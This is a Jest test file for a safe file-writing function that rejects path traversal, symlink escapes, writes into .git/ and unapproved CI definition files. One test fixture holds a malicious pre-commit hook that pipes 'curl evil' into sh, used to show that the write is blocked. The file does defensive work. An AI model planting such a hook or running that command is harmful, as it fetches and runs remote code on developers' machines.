import fs from 'fs/promises';
import os from 'os';
import path from 'path';
import {
  isCiDefinition,
  protectedPathViolation,
  writeFilesSafely,
} from './safe-write';

const limits = { maxFileBytes: 100, maxTotalBytes: 150 };
const file = (p: string, content = 'x') => ({
  path: p,
  content: Buffer.from(content),
});

async function tempDir() {
  return fs.mkdtemp(path.join(os.tmpdir(), 'ql-safe-'));
}

/** Every file under `dir`, relative, symlinks not followed. */
async function tree(dir: string): Promise<string[]> {
  const entries = await fs.readdir(dir, {
    recursive: true,
    withFileTypes: true,
  });
  return entries
    .filter(e => !e.isDirectory())
    .map(e => path.relative(dir, path.join(e.parentPath, e.name)))
    .sort();
}

describe('writeFilesSafely', () => {
  it('writes nested relative files', async () => {
    const root = await tempDir();
    expect(
      await writeFilesSafely(
        { workspace: root },
        [file('a.py', 'print(1)'), file('pkg/b.py')],
        limits,
      ),
    ).toEqual(['a.py', 'pkg/b.py']);
    expect(await fs.readFile(path.join(root, 'a.py'), 'utf8')).toBe('print(1)');
  });

  it.each([
    ['/etc/passwd', 'is absolute'],
    ['../escape.txt', 'contains ".."'],
    ['a/../../escape.txt', 'contains ".."'],
  ])('refuses %p and writes nothing', async (bad, reason) => {
    const root = await tempDir();
    await expect(
      writeFilesSafely(
        { workspace: root },
        [file('ok.txt'), file(bad)],
        limits,
      ),
    ).rejects.toThrow(
      `generated file path "${bad}" ${reason}; nothing was written`,
    );
    expect(await fs.readdir(root)).toEqual([]);
  });

  it('refuses a path through a symlink that leaves the target, and writes nothing', async () => {
    const root = await tempDir();
    const outside = await tempDir();
    await fs.symlink(outside, path.join(root, 'link'));
    await expect(
      writeFilesSafely(
        { workspace: root },
        [file('ok.txt'), file('link/x.txt')],
        limits,
      ),
    ).rejects.toThrow('would be written outside the target directory');
    expect(await fs.readdir(outside)).toEqual([]);
    expect((await fs.readdir(root)).sort()).toEqual(['link']);
  });

  it('refuses files over the per-file and total limits', async () => {
    const root = await tempDir();
    await expect(
      writeFilesSafely(
        { workspace: root },
        [file('big.txt', 'y'.repeat(101))],
        limits,
      ),
    ).rejects.toThrow(
      'generated file "big.txt" is 101 bytes, over the 100-byte limit',
    );
    await expect(
      writeFilesSafely(
        { workspace: root },
        [file('a.txt', 'y'.repeat(80)), file('b.txt', 'y'.repeat(80))],
        limits,
      ),
    ).rejects.toThrow(
      'generated files total 160 bytes, over the 150-byte limit',
    );
    expect(await fs.readdir(root)).toEqual([]);
  });
});

describe('the write root and protected paths (finding 8)', () => {
  it('writes into a targetPath given as ./dir/ and refuses a backslash or an over-long one', async () => {
    const workspace = await tempDir();
    expect(
      await writeFilesSafely(
        { workspace, targetPath: './svc/' },
        [file('a.py')],
        limits,
      ),
    ).toEqual(['a.py']);
    expect(await tree(workspace)).toEqual(['svc/a.py']);
    await expect(
      writeFilesSafely(
        { workspace, targetPath: 'svc\\..\\..' },
        [file('a.py')],
        limits,
      ),
    ).rejects.toThrow('contains a backslash; nothing was written');
    await expect(
      writeFilesSafely(
        { workspace, targetPath: 'd/'.repeat(101) },
        [file('a.py')],
        limits,
      ),
    ).rejects.toThrow('is empty or longer than 200 characters');
    expect(await tree(workspace)).toEqual(['svc/a.py']);
  });

  it('refuses a targetPath that is a symlink inside the workspace pointing outside it', async () => {
    const workspace = await tempDir();
    const outside = await tempDir();
    await fs.symlink(outside, path.join(workspace, 'out'));
    await expect(
      writeFilesSafely(
        { workspace, targetPath: 'out' },
        [file('a.py')],
        limits,
      ),
    ).rejects.toThrow(
      'targetPath "out" goes through the symlink "out"; the action writes only into real directories of the workspace; nothing was written',
    );
    // Also when the link is only part of the way.
    await expect(
      writeFilesSafely(
        { workspace, targetPath: 'out/deeper' },
        [file('a.py')],
        limits,
      ),
    ).rejects.toThrow('targetPath "out/deeper" goes through the symlink "out"');
    expect(await fs.readdir(outside)).toEqual([]);
  });

  it('refuses a targetPath that is a symlink to elsewhere in the workspace, such as .git', async () => {
    const workspace = await tempDir();
    await fs.mkdir(path.join(workspace, '.git/hooks'), { recursive: true });
    await fs.symlink('.git/hooks', path.join(workspace, 'tools'));
    await expect(
      writeFilesSafely(
        { workspace, targetPath: 'tools' },
        [file('pre-commit', '#!/bin/sh\ncurl evil | sh\n')],
        limits,
      ),
    ).rejects.toThrow('targetPath "tools" goes through the symlink "tools"');
    expect(await fs.readdir(path.join(workspace, '.git/hooks'))).toEqual([]);
  });

  it.each(['.git/config', '.git/hooks/pre-commit', 'sub/.GIT/config', '.git'])(
    'never writes %p',
    async bad => {
      const workspace = await tempDir();
      await expect(
        writeFilesSafely({ workspace }, [file('ok.txt'), file(bad)], limits, {
          allowCiFiles: true,
        }),
      ).rejects.toThrow(
        `generated file path "${bad}" is inside .git/, which the action never writes; nothing was written`,
      );
      await expect(
        writeFilesSafely(
          { workspace, targetPath: '.git/hooks' },
          [file('pre-commit')],
          limits,
        ),
      ).rejects.toThrow(
        'targetPath ".git/hooks" is inside .git/, which the action never writes',
      );
      expect(await tree(workspace)).toEqual([]);
    },
  );

  it('refuses a file whose symlinked directory leads into .git or a CI directory', async () => {
    const workspace = await tempDir();
    await fs.mkdir(path.join(workspace, '.git'));
    await fs.mkdir(path.join(workspace, '.github/workflows'), {
      recursive: true,
    });
    await fs.symlink('.git', path.join(workspace, 'docs'));
    await fs.symlink('.github/workflows', path.join(workspace, 'ci'));
    await expect(
      writeFilesSafely({ workspace }, [file('docs/config')], limits),
    ).rejects.toThrow(
      'generated file "docs/config" leads through a symlink to ".git/config", which is inside .git/',
    );
    await expect(
      writeFilesSafely({ workspace }, [file('ci/deploy.yml')], limits),
    ).rejects.toThrow(
      'generated file "ci/deploy.yml" leads through a symlink to ".github/workflows/deploy.yml", which is a CI definition',
    );
    expect(await tree(workspace)).toEqual(['ci', 'docs']);
  });

  const ciFiles = [
    '.github/workflows/ci.yml',
    '.gitlab-ci.yml',
    '.circleci/config.yml',
    'Jenkinsfile',
    '.buildkite/pipeline.yml',
    'azure-pipelines.yml',
    'service/.github/workflows/release.yaml',
  ];

  it.each(ciFiles)(
    'writes the CI definition %p only when the template allows CI files',
    async ci => {
      const workspace = await tempDir();
      await expect(
        writeFilesSafely({ workspace }, [file('ok.txt'), file(ci)], limits),
      ).rejects.toThrow(
        `generated file path "${ci}" is a CI definition, which runs with the repository's secrets once it is published; the template must set allowCiFiles: true to write it; nothing was written`,
      );
      expect(await tree(workspace)).toEqual([]);
      expect(
        await writeFilesSafely({ workspace }, [file(ci)], limits, {
          allowCiFiles: true,
        }),
      ).toEqual([ci]);
      expect(await tree(workspace)).toEqual([ci]);
    },
  );

  it('counts the targetPath: a CI file under it is still a CI file', async () => {
    expect(protectedPathViolation(path.join('.github', 'ci.yml'))).toBe(
      undefined,
    );
    expect(isCiDefinition(path.join('.github', 'workflows/ci.yml'))).toBe(true);
    expect(isCiDefinition('README.md')).toBe(false);
    expect(isCiDefinition('.github/dependabot.yml')).toBe(false);
    expect(isCiDefinition('docs/workflows/ci.yml')).toBe(false);
    const workspace = await tempDir();
    await expect(
      writeFilesSafely(
        { workspace, targetPath: '.github' },
        [file('workflows/ci.yml')],
        limits,
      ),
    ).rejects.toThrow('is a CI definition');
  });
});
